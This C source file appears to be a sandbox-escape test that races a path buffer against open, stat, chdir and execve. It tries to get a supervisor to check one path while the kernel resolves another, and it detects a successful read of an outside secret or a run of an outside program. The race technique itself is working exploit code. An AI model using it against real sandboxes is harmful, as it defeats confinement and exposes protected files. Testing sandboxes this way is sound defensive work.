/* Trick: a second thread rewrites the path buffer while open/stat/chdir/
 * execve is in flight, hoping the supervisor checks one string and the
 * kernel uses another. The buffer flips between an inside path and two ways
 * out (the host path of the outside dir, and "../outside/...", which is the
 * outside dir when resolved natively from the root's host directory).
 * execve-vm: the flipper is a separate process sharing memory (CLONE_VM
 * without CLONE_THREAD), not a thread.
 * Usage: race_path open|stat|chdir|execve|execve-vm SECONDS */
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <time.h>

#include "escape.h"

static char buf[4096] __attribute__((aligned(64)));
static char alt[3][4096];
static atomic_int stop;
static atomic_uint flips;

static void* flipper(void* arg) {
    (void)arg;
    unsigned i = 0;
    pid_t parent = getppid();
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        /* A CLONE_VM flipper outlives the exec of its sibling: it ends when
         * that process (its parent) is gone. */
        if ((i & 1023) == 1023 && getppid() != parent) break;
        atomic_fetch_add_explicit(&flips, 1, memory_order_relaxed);
        const char* s = alt[i++ % 3];
        memcpy(buf, s, strlen(s) + 1);
    }
    return NULL;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
    const char* mode = argc > 1 ? argv[1] : "open";
    double secs = argc > 2 ? atof(argv[2]) : 1.0;
    const char* token = TOKEN;
    const char* outside = OUTSIDE;
    unsigned long dev = env_ul("ESC_OUTSIDE_DEV"), ino = env_ul("ESC_OUTSIDE_INO");
    unsigned long sdev = env_ul("ESC_SECRET_DEV"), sino = env_ul("ESC_SECRET_INO");
    int is_vm = !strcmp(mode, "execve-vm");
    int is_exec = !strcmp(mode, "execve") || is_vm, is_chdir = !strcmp(mode, "chdir");
    const char* leaf = is_exec ? "evil" : "secret";
    snprintf(alt[0], sizeof alt[0], "%s", is_exec ? "/good" : is_chdir ? "/indir" : "/inside_secret");
    if (is_chdir) {
        snprintf(alt[1], sizeof alt[1], "%s", outside);
        snprintf(alt[2], sizeof alt[2], "../outside");
    } else {
        snprintf(alt[1], sizeof alt[1], "%s/%s", outside, leaf);
        snprintf(alt[2], sizeof alt[2], "../outside/%s", leaf);
    }
    strcpy(buf, alt[0]);
    if (chdir("/") < 0) note("chdir /: %s", strerror(errno));

    long tries = 0, ok = 0;
    double end = now() + secs;
    if (is_exec) {
        while (now() < end) {
            pid_t pid = fork();
            if (pid == 0) {
                if (is_vm) {
                    static char stack[65536] __attribute__((aligned(16)));
                    pid_t f = clone((int (*)(void*))(void*)flipper, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
                    if (f < 0) {
                        fprintf(stderr, "clone(CLONE_VM): %s\n", strerror(errno));
                        _exit(4);
                    }
                } else {
                    pthread_t t;
                    pthread_create(&t, NULL, flipper, NULL);
                }
                while (atomic_load(&flips) < 100) {
                }
                char* av[] = {"x", NULL};
                for (int i = 0; i < 2000; ++i) execv(buf, av);
                _exit(3);
            }
            int status;
            waitpid(pid, &status, 0);
            ++tries;
            if (WIFEXITED(status) && WEXITSTATUS(status) == 42) leak("execve ran the outside program");
            if (WIFEXITED(status) && WEXITSTATUS(status) == 0) ++ok;
            if (esc_leaks) break;
        }
    } else {
        pthread_t t;
        pthread_create(&t, NULL, flipper, NULL);
        while (now() < end && !esc_leaks) {
            for (int i = 0; i < 64; ++i) {
                ++tries;
                if (!strcmp(mode, "open")) {
                    int fd = open(buf, O_RDONLY | O_CLOEXEC);
                    if (fd >= 0) {
                        struct stat st;
                        if (fstat(fd, &st) == 0 && st.st_ino == sino && st.st_dev == sdev) leak("open raced to the outside file");
                        else ++ok;
                        close(fd);
                    }
                } else if (!strcmp(mode, "stat")) {
                    struct stat st;
                    if (stat(buf, &st) == 0) {
                        if (st.st_ino == sino && st.st_dev == sdev) leak("stat raced to the outside file");
                        else ++ok;
                    }
                } else if (is_chdir) {
                    if (chdir(buf) == 0) {
                        struct stat st;
                        if (stat(".", &st) == 0 && st.st_ino == ino && st.st_dev == dev) {
                            leak("chdir raced into the outside dir");
                            try_read("secret", token, "chdir race");
                        } else {
                            ++ok;
                        }
                        chdir("/");
                    }
                } else {
                    fprintf(stderr, "unknown mode %s\n", mode);
                    return 2;
                }
            }
        }
        atomic_store(&stop, 1);
        pthread_join(t, NULL);
    }
    printf("%s: %ld tries, %ld reached the inside object\n", mode, tries, ok);
    if (ok == 0 && !esc_leaks) {
        /* The race must actually have run: the inside path works. */
        fprintf(stderr, "FAIL: no %s ever reached the inside object\n", mode);
        return 2;
    }
    return finish();
}
